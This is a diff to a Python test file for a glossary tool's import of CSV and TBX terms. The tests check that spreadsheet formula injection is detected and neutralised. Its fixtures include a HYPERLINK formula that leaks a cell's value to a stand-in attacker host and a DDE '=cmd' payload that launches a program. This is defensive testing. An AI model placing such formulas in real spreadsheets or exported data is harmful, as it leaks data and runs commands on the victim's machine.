@@ -35,6 +35,9 @@ def cells(path: Path) -> list[list[str]]:
         ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', True),
         ("+82 55 225 0000", True),
         ("@SUM(A1:A9)", True),
+        ("@1+1", True),
+        ("@foreign ~", False),  # the glossary's context-rule syntax
+        ("@metro ~; ~ 주민; ~ 구청장", False),
         ("\t=1+1", True),
         ("\r=1", True),
         ("  =1+1", True),  # the reader strips the spaces, so it would be written as a formula
@@ -90,9 +93,9 @@ def test_tbx_import_neutralises_formulas_and_lint_accepts_the_result(tmp_path: P
     assert code == 0, err
     assert err.splitlines()[:2] == [
         f"Warning: {incoming}:1: ko '=cmd|' /C calc'!A1' would run as a formula in Excel; imported as"
-        " ''=cmd|' /C calc'!A1' — check the term in the CAT tool it came from",
+        " ''=cmd|' /C calc'!A1' — check the term in the file it came from",
         f"Warning: {incoming}:1: note '=HYPERLINK(\"http://evil.example\")' would run as a formula in Excel;"
-        " imported as ''=HYPERLINK(\"http://evil.example\")' — check the term in the CAT tool it came from",
+        " imported as ''=HYPERLINK(\"http://evil.example\")' — check the term in the file it came from",
     ]
     rows = cells(glossary)
     assert rows[2:] == [
